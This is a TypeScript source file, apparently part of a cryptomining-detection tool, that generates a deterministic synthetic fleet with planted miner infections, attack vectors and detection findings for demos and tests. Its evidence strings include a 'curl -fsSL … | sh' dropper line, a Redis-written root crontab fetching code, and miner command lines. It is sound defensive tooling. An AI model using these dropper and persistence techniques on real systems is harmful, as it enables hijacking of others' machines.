/**
 * The demo fleet: a deterministic (by seed) synthetic fleet of thousands of hosts over nine months of 2018,
 * planted with the story in truth.ts. `planDemo` decides everything up front (who gets infected when, by what,
 * mining what where); `demoDays` then emits each day's events in time order, one array a day, so the store's
 * bulk ingest sees narrow time windows and memory stays at one day's events.
 */
import type { MinewatchEvent } from '../findings/index.ts';
import { Rng } from './random.ts';
import {
  CAMPAIGNS,
  DEMO_END,
  DEMO_HOSTS,
  DEMO_SEED,
  DEMO_START,
  ETN_LAG_DAYS,
  POOLS,
  WAVE_EXE,
  WAVE_FAMILY,
  WAVE_POOL,
  WAVES,
  XMR_POOLS,
} from './truth.ts';

const DAY_MS = 86_400_000;

export type InfectionType = 'type1-trojan' | 'type2-stock-miner-dropper' | 'unknown';
export type StintKind = 'xmr' | 'etn' | 'xcn' | 'wave1' | 'wave2';

export interface DemoOptions {
  seed?: number;
  /** Fleet size (default 6000); every planted count scales with it. */
  hosts?: number;
}

/** One host mining one coin with one binary from `start` to `end` (day indexes, end exclusive). */
export interface Stint {
  host: number;
  kind: StintKind;
  start: number;
  end: number;
  coin: string;
  pool: string;
  port: number;
  family: string;
  exe: string;
  sha256: string;
  wallet: string;
  account: string;
  dropper: string;
  type: InfectionType;
  /** ETN stints: active on day t while rank < etnActive[t]. */
  rank?: number;
}

export interface DemoPlan {
  seed: number;
  hosts: string[];
  days: string[];
  stints: Stint[];
  /** Findings (and vector evidence) by day index. */
  findings: MinewatchEvent[][];
  /** Daily USD prices of XMR and ETN (XCN is left out on purpose: reports must cope with a missing price). */
  prices: { date: string; coin: string; price: number }[];
  /** ETN hosts wanted mining per day (from ETN's price ETN_LAG_DAYS earlier). */
  etnActive: number[];
  /** Planted truth, for tests and the demo's own summary. */
  truth: {
    waves: { date: string; hosts: string[]; vector: string; with_vector: string[] }[];
    infection: Map<string, InfectionType>;
    campaigns: { kind: 'wallet' | 'dropper' | 'account'; key: string; hosts: number }[];
  };
}

function dayIndexOf(days: readonly string[], date: string): number {
  return days.indexOf(date);
}

/** A hash-based coin flip per (host, day): the same answer when planning and when emitting. */
function chance(host: number, day: number, salt: number): number {
  let h = Math.imul(host ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(day + salt * 7919, 0xc2b2ae35);
  h ^= h >>> 16;
  h = Math.imul(h, 0x7feb352d);
  h ^= h >>> 15;
  return (h >>> 0) / 4294967296;
}

/** Miners are offline some days (reboots, maintenance): 3% of host-days after the first. */
function offline(s: Stint, t: number): boolean {
  return t !== s.start && chance(s.host, t, 1) < 0.03;
}

function activeOn(s: Stint, t: number, etnActive: readonly number[]): boolean {
  if (t < s.start || t >= s.end) return false;
  if (s.kind === 'etn')
    return (s.rank ?? 0) < (etnActive[t] ?? 0) && (t === s.start || chance(s.host, t, 1) >= 0.03);
  return !offline(s, t);
}

/** A price path: log-linear between anchors plus AR(1) noise. */
function pricePath(
  rng: Rng,
  days: readonly string[],
  anchors: readonly (readonly [string, number])[],
  sd: number,
): number[] {
  const idx = anchors.map(([d, p]) => [dayIndexOf(days, d), Math.log(p)] as const);
  let noise = 0;
  return days.map((_, t) => {
    let k = 0;
    while (k + 1 < idx.length - 1 && t > idx[k + 1]![0]) k++;
    const [t0, l0] = idx[k]!;
    const [t1, l1] = idx[k + 1]!;
    const f = Math.max(0, Math.min(1, (t - t0) / Math.max(1, t1 - t0)));
    noise = 0.85 * noise + sd * rng.normal();
    return Math.exp(l0 + f * (l1 - l0) + noise);
  });
}

const ROLES = [
  ['web', 30],
  ['api', 15],
  ['cache', 14],
  ['db', 8],
  ['ci', 8],
  ['batch', 10],
  ['worker', 15],
] as const;
const REGIONS = ['eu1', 'eu2', 'us1', 'us2', 'ap1'];

export function planDemo(opts: DemoOptions = {}): DemoPlan {
  const seed = opts.seed ?? DEMO_SEED;
  const n = Math.max(50, Math.floor(opts.hosts ?? DEMO_HOSTS));
  const scale = n / DEMO_HOSTS;
  const rng = new Rng(seed);
  const days: string[] = [];
  for (let t = Date.parse(`${DEMO_START}T00:00:00Z`); t <= Date.parse(`${DEMO_END}T00:00:00Z`); t += DAY_MS)
    days.push(new Date(t).toISOString().slice(0, 10));
  const D = days.length;
  const hosts = Array.from({ length: n }, (_, i) => {
    const role = rng.weighted(ROLES);
    return `${role}-${rng.pick(REGIONS)}-${String(i + 1).padStart(5, '0')}`;
  });
  // Hosts are drawn without replacement: each infected host has one story.
  const free = rng.shuffle(Array.from({ length: n }, (_, i) => i));
  const cacheFirst = [...free].sort(
    (a, b) => Number(hosts[b]!.startsWith('cache')) - Number(hosts[a]!.startsWith('cache')),
  );
  const used = new Set<number>();
  const take = (k: number, pool: number[] = free): number[] => {
    const out: number[] = [];
    for (const h of pool) {
      if (out.length >= k) break;
      if (!used.has(h)) {
        used.add(h);
        out.push(h);
      }
    }
    return out;
  };
  const S = (k: number) => Math.max(1, Math.round(k * scale));

  const xmr = pricePath(
    rng,
    days,
    [
      ['2018-01-01', 340],
      ['2018-01-08', 400],
      ['2018-04-01', 200],
      ['2018-09-30', 115],
    ],
    0.035,
  );
  const etn = pricePath(
    rng,
    days,
    [
      ['2018-01-01', 0.17],
      ['2018-01-14', 0.19],
      ['2018-04-01', 0.07],
      ['2018-05-20', 0.04],
      ['2018-06-10', 0.014],
      ['2018-09-30', 0.009],
    ],
    0.05,
  );
  const prices = days.flatMap((date, t) => [
    { date, coin: 'XMR', price: Math.round(xmr[t]! * 100) / 100 },
    { date, coin: 'ETN', price: Math.round(etn[t]! * 1e5) / 1e5 },
  ]);
  // ETN mining heat: hosts mine while the price (a week ago) pays; capped at the fleet's ETN hosts.
  const etnHosts = S(500);
  // Hosts mine ETN while it pays: capped at the cohort while the price is high, none once it has crashed
  // below the floor (it never comes back above it, so the dead series has no blips).
  const pRef = 0.13;
  const pFloor = 0.03;
  const etnActive = days.map((_, t) => {
    const p = etn[Math.max(0, t - ETN_LAG_DAYS)]!;
    return Math.round(etnHosts * Math.max(0, Math.min(1, (p - pFloor) / (pRef - pFloor))));
  });

  const stints: Stint[] = [];
  const findings: MinewatchEvent[][] = days.map(() => []);
  const infection = new Map<string, InfectionType>();
  let fid = 0;
  const iso = (t: number, sec: number) =>
    new Date(Date.parse(`${days[t]}T00:00:00Z`) + sec * 1000).toISOString();
  const finding = (t: number, host: number, f: Record<string, unknown>) => {
    if (t < 0 || t >= D) return;
    const time = iso(t, rng.int(86_400));
    const id = `f${(fid++).toString(36)}`;
    findings[t]!.push({
      id,
      time,
      host: hosts[host]!,
      type: 'finding',
      finding: {
        id: `demo-${id}`,
        confidence: 0.9,
        attack: [],
        evidence: [],
        host: hosts[host]!,
        time,
        ...f,
      },
    } as unknown as MinewatchEvent);
  };
  const wallet = (coin: string) => (coin === 'ETN' ? `etn${rng.base58(95)}` : `4${rng.base58(94)}`);
  const portOf = (pool: string) => rng.weighted(POOLS[pool]!.ports);

  /** Findings a miner's host shows when it starts, by infection type. */
  const infect = (s: Stint) => {
    infection.set(hosts[s.host]!, s.type);
    const base = { coin: s.coin, wallet: s.wallet, pool: { host: s.pool, port: s.port }, family: s.family };
    if (s.type === 'unknown') {
      finding(s.start, s.host, {
        rule: 'net.pool.connection',
        title: `connection to mining pool ${s.pool}`,
        severity: 'high',
        attack: [{ technique: 'T1496', name: 'Resource Hijacking' }],
        ...base,
        family: undefined,
        ...(s.account ? { account: s.account } : {}),
      });
      return;
    }
    const proc = { kind: 'process', path: s.exe, sha256: s.sha256, pid: 4000 + rng.int(30_000) };
    if (s.type === 'type1-trojan') {
      finding(s.start, s.host, {
        rule: 'host.file.miner-binary',
        title: `${s.family} trojan with an embedded miner`,
        severity: 'high',
        attack: [{ technique: 'T1496', name: 'Resource Hijacking' }],
        ...base,
        exe: s.exe,
        sha256: s.sha256,
        infection_type: 'type1-trojan',
        evidence: [{ kind: 'file', path: s.exe, sha256: s.sha256 }],
      });
      return;
    }
    finding(s.start, s.host, {
      rule: 'host.process.miner-exe',
      title: `${s.family} mining ${s.coin} to ${s.pool}`,
      severity: 'high',
      attack: [{ technique: 'T1496', name: 'Resource Hijacking' }],
      ...base,
      exe: s.exe,
      sha256: s.sha256,
      ...(s.account ? { account: s.account } : {}),
      evidence: [proc],
    });
    finding(s.start, s.host, {
      rule: 'host.file.dropper-script',
      title: 'script that downloads and starts a miner',
      severity: 'medium',
      attack: [{ technique: 'T1105', name: 'Ingress Tool Transfer' }],
      dropper_url: s.dropper,
      evidence: [{ kind: 'file', path: '/tmp/.x.sh', excerpt: `curl -fsSL ${s.dropper} | sh` }],
    });
  };
  const vector = (
    t: number,
    host: number,
    v: 'ssh-bruteforce' | 'redis-crontab' | 'web-exploit' | 'smb-scan',
  ) => {
    const specs = {
      'ssh-bruteforce': {
        rule: 'log.auth.ssh-bruteforce',
        title: 'SSH brute force: hundreds of failed logins then a success',
        severity: 'low',
        attack: [{ technique: 'T1110', name: 'Brute Force' }],
        evidence: [
          {
            kind: 'log',
            path: '/var/log/auth.log',
            excerpt: 'Failed password for root from 45.227.255.3 port 22',
          },
        ],
      },
      'redis-crontab': {
        rule: 'host.persistence.redis-crontab',
        title: 'crontab written by Redis (CONFIG SET dir /var/spool/cron)',
        severity: 'high',
        attack: [{ technique: 'T1053.003', name: 'Scheduled Task/Job: Cron' }],
        evidence: [
          {
            kind: 'file',
            path: '/var/spool/cron/crontabs/root',
            excerpt: 'REDIS0006 */1 * * * * curl -fsSL',
          },
        ],
      },
      'web-exploit': {
        rule: 'log.web.exploit-request',
        title: 'exploit request in the web server log',
        severity: 'low',
        attack: [{ technique: 'T1190', name: 'Exploit Public-Facing Application' }],
        evidence: [
          { kind: 'log', path: '/var/log/nginx/access.log', excerpt: 'POST /wls-wsat/CoordinatorPortType' },
        ],
      },
      'smb-scan': {
        rule: 'net.flow.smb-scan',
        title: 'SMB scanning: outbound 445 to hundreds of addresses',
        severity: 'low',
        attack: [{ technique: 'T1210', name: 'Exploitation of Remote Services' }],
        port: 445,
        evidence: [{ kind: 'flow', excerpt: 'tcp/445 to 812 distinct addresses in 10 min' }],
      },
    } as const;
    finding(t, host, { ...specs[v] });
  };

  const stint = (s: Omit<Stint, 'sha256'> & { sha256?: string }): Stint => {
    const full: Stint = { ...s, sha256: s.sha256 ?? rng.hex(64) };
    stints.push(full);
    return full;
  };

  // Electroneum: a cohort mining from the start; one shared wallet campaign among them.
  const etnIdx = take(etnHosts);
  etnIdx.forEach((h, i) => {
    const pool = rng.weighted([
      ['f2pool.com', 7],
      ['yiluzhuanqian.com', 3],
    ] as const);
    // The first active day: the host's rank must be under the wanted count (and the host online).
    let start = 0;
    while (start < D && !(i < etnActive[start]! && (start === 0 || chance(h, start, 1) >= 0.03))) start++;
    if (start >= D) return;
    const s = stint({
      host: h,
      kind: 'etn',
      start,
      end: D,
      coin: 'ETN',
      pool,
      port: portOf(pool),
      family: 'xmr-stak',
      exe: '/usr/local/bin/.xmr-stak/xmr-stak',
      wallet: i < S(CAMPAIGNS.etnWalletHosts) ? CAMPAIGNS.etnWallet : wallet('ETN'),
      account: '',
      dropper: `http://${rng.int(223) + 1}.${rng.int(256)}.${rng.int(256)}.${rng.int(256)}/${rng.hex(6)}.sh`,
      type: 'type2-stock-miner-dropper',
      rank: i,
    });
    infect(s);
  });
  // Cryptonite: a small steady cohort.
  for (const h of take(S(60))) {
    const s = stint({
      host: h,
      kind: 'xcn',
      start: 0,
      end: D,
      coin: 'XCN',
      pool: 'yiluzhuanqian.com',
      port: 5555,
      family: 'minerd',
      exe: '/opt/.cache/minerd',
      wallet: `C${rng.base58(33)}`,
      account: '',
      dropper: '',
      type: 'unknown',
    });
    infect(s);
  }
  // Monero, background: a stock at the start, then a trickle of new infections that grows over the year.
  let bgWallet = 0;
  let bgDropper = 0;
  const bgXmr = (start: number) => {
    const [h] = take(1);
    if (h === undefined) return;
    const pool = rng.weighted(XMR_POOLS);
    const type = rng.weighted([
      ['type2-stock-miner-dropper', 55],
      ['type1-trojan', 25],
      ['unknown', 20],
    ] as const);
    const trojan = type === 'type1-trojan';
    const fam = trojan
      ? rng.weighted([
          ['adylkuzz', 6],
          ['wannamine', 4],
        ] as const)
      : rng.weighted([
          ['xmrig', 7],
          ['xmr-stak', 3],
        ] as const);
    let w = wallet('XMR');
    let dropper = '';
    if (type === 'type2-stock-miner-dropper') {
      if (bgWallet < S(CAMPAIGNS.bgWalletHosts) && rng.next() < 0.3) {
        bgWallet++;
        w = CAMPAIGNS.bgWallet;
        dropper = CAMPAIGNS.bgDropper;
      } else if (bgDropper < S(CAMPAIGNS.bgDropperHosts) && rng.next() < 0.15) {
        bgDropper++;
        dropper = CAMPAIGNS.bgDropper;
      } else
        dropper = `http://${rng.int(223) + 1}.${rng.int(256)}.${rng.int(256)}.${rng.int(256)}/${rng.hex(6)}.sh`;
    }
    const s = stint({
      host: h,
      kind: 'xmr',
      start,
      end: Math.min(D, start + 1 + Math.round(rng.exponential(110))),
      coin: 'XMR',
      pool,
      port: portOf(pool),
      family: type === 'unknown' ? '' : fam,
      exe: type === 'unknown' ? '' : trojan ? `C:\\Windows\\Temp\\${fam}.exe` : `/tmp/.${rng.hex(4)}/${fam}`,
      wallet: w,
      account: pool === 'xmr.pool.minergate.com' ? `${rng.hex(8)}@mail.ru` : '',
      dropper,
      type,
    });
    infect(s);
    if (type === 'type2-stock-miner-dropper' && rng.next() < 0.25)
      vector(start - rng.int(5), h, 'web-exploit');
    if (trojan && rng.next() < 0.6) vector(start + 1 + rng.int(10), h, 'smb-scan');
  };
  for (let i = 0; i < S(500); i++) bgXmr(0);
  for (let t = 1; t < D; t++) {
    const k = rng.poisson((4 + (3 * t) / D) * scale);
    for (let i = 0; i < k; i++) bgXmr(t);
  }
  // The waves: hundreds of hosts on one day, after SSH brute force (wave 1) or a Redis-written crontab (wave 2).
  const waves: DemoPlan['truth']['waves'] = [];
  WAVES.forEach((w, wi) => {
    const t = dayIndexOf(days, w.date);
    const hs = take(S(w.hosts), wi === 1 ? cacheFirst : free);
    const withVector: string[] = [];
    const sha = rng.hex(64);
    for (const h of hs) {
      const s = stint({
        host: h,
        kind: wi === 0 ? 'wave1' : 'wave2',
        start: t,
        end: Math.min(D, t + 1 + Math.round(rng.exponential(45))),
        coin: 'XMR',
        pool: WAVE_POOL,
        port: portOf(WAVE_POOL),
        family: WAVE_FAMILY,
        exe: WAVE_EXE,
        sha256: sha,
        wallet: wi === 0 ? CAMPAIGNS.wave1Wallet : CAMPAIGNS.wave2Wallet,
        account: wi === 0 ? CAMPAIGNS.wave1Account : CAMPAIGNS.wave2Account,
        dropper: wi === 0 ? CAMPAIGNS.wave1Dropper : CAMPAIGNS.wave2Dropper,
        type: 'type2-stock-miner-dropper',
      });
      infect(s);
      if (rng.next() < w.share_with_vector) {
        vector(t - (wi === 0 ? 1 + rng.int(3) : 1), h, w.vector);
        withVector.push(hosts[h]!);
      }
    }
    waves.push({ date: w.date, hosts: hs.map((h) => hosts[h]!), vector: w.vector, with_vector: withVector });
  });
  // Background noise: failed SSH brute force on clean hosts, spread over the year.
  for (const h of take(S(150))) vector(rng.int(D), h, 'ssh-bruteforce');

  const campaigns: DemoPlan['truth']['campaigns'] = [];
  const count = (f: (s: Stint) => boolean) => new Set(stints.filter(f).map((s) => s.host)).size;
  const add = (kind: 'wallet' | 'dropper' | 'account', key: string) => {
    const k = count((s) => s[kind] === key);
    if (k >= 2) campaigns.push({ kind, key, hosts: k });
  };
  add('wallet', CAMPAIGNS.wave1Wallet);
  add('dropper', CAMPAIGNS.wave1Dropper);
  add('account', CAMPAIGNS.wave1Account);
  add('wallet', CAMPAIGNS.wave2Wallet);
  add('dropper', CAMPAIGNS.wave2Dropper);
  add('account', CAMPAIGNS.wave2Account);
  add('wallet', CAMPAIGNS.bgWallet);
  add('dropper', CAMPAIGNS.bgDropper);
  add('wallet', CAMPAIGNS.etnWallet);

  return { seed, hosts, days, stints, findings, prices, etnActive, truth: { waves, infection, campaigns } };
}

const BENIGN = [
  ['/usr/sbin/nginx', 'nginx: worker process'],
  ['/usr/sbin/sshd', 'sshd: root@pts/0'],
  ['/usr/bin/python3', 'python3 /opt/app/worker.py'],
  ['/usr/bin/node', 'node /srv/api/server.js'],
  ['/usr/bin/redis-server', 'redis-server *:6379'],
  ['/usr/lib/postgresql/15/bin/postgres', 'postgres: checkpointer'],
  ['/usr/bin/cron', '/usr/sbin/cron -f'],
] as const;

/**
 * Emits the plan's events one day at a time (each day's array sorted by time). Deterministic: same plan and
 * seed, same events and ids, so loading the demo twice stores it once.
 */
export function* demoDays(plan: DemoPlan): Generator<MinewatchEvent[]> {
  const rng = new Rng(plan.seed ^ 0x5eed);
  const { hosts, days, stints, etnActive } = plan;
  let seq = 0;
  const id = () => `d${(seq++).toString(36)}`;
  const byStart = [...stints].sort((a, b) => a.start - b.start);
  for (let t = 0; t < days.length; t++) {
    const day0 = Date.parse(`${days[t]}T00:00:00Z`);
    const at = () => new Date(day0 + rng.int(86_400_000)).toISOString();
    const out: MinewatchEvent[] = [];
    for (let h = 0; h < hosts.length; h++) {
      const host = hosts[h]!;
      if ((h + t) % 14 === 0)
        out.push({
          id: id(),
          time: new Date(day0 + (h % 86_400) * 1000).toISOString(),
          host,
          type: 'heartbeat',
          os: 'Ubuntu 16.04',
          cpus: 2 + (h % 4) * 2,
          agent_version: '0.1.0',
        });
      if (rng.next() < 0.08) {
        const [exe, cmdline] = rng.pick(BENIGN);
        out.push({
          id: id(),
          time: at(),
          host,
          type: 'process',
          pid: 300 + rng.int(60_000),
          exe,
          cmdline,
          user: 'root',
        });
      }
    }
    for (const s of byStart) {
      if (s.start > t) break;
      if (!activeOn(s, t, etnActive)) continue;
      const host = hosts[s.host]!;
      const spec = POOLS[s.pool]!;
      if (s.exe)
        out.push({
          id: id(),
          time: at(),
          host,
          type: 'process',
          pid: 2000 + rng.int(60_000),
          ppid: 1,
          user: s.kind === 'wave2' ? 'redis' : 'root',
          exe: s.exe,
          cmdline: `${s.exe} -o stratum+tcp://${s.pool}:${s.port} -u ${s.account || s.wallet} -p x`,
          sha256: s.sha256,
          family: s.family,
          // What the agent read from the command line: the pool login links hosts into campaigns.
          wallet: s.wallet,
          ...(s.account ? { account: s.account } : {}),
        });
      const conns = 1 + rng.int(2);
      for (let c = 0; c < conns; c++)
        out.push({
          id: id(),
          time: at(),
          host,
          type: 'connection',
          src_ip: `10.${s.host >> 16}.${(s.host >> 8) & 255}.${s.host & 255}`,
          src_port: 32768 + rng.int(28_000),
          dst_ip: spec.ip,
          dst_port: s.port,
          proto: 'tcp',
          pool: s.pool,
          coin: s.coin,
          domain: s.pool,
          ...(s.exe ? { exe: s.exe, family: s.family } : {}),
          bytes_out: 2000 + rng.int(20_000),
          bytes_in: 4000 + rng.int(40_000),
        });
      if (rng.next() < 0.3)
        out.push({ id: id(), time: at(), host, type: 'dns', query: s.pool, qtype: 'A', answers: [spec.ip] });
    }
    out.push(...plan.findings[t]!);
    out.sort((a, b) => (a.time < b.time ? -1 : a.time > b.time ? 1 : 0));
    yield out;
  }
}

/** The price CSV the demo writes beside the store (`date,coin,price_usd`). */
export function pricesCsv(plan: DemoPlan): string {
  return `date,coin,price_usd\n${plan.prices.map((p) => `${p.date},${p.coin},${p.price}`).join('\n')}\n`;
}
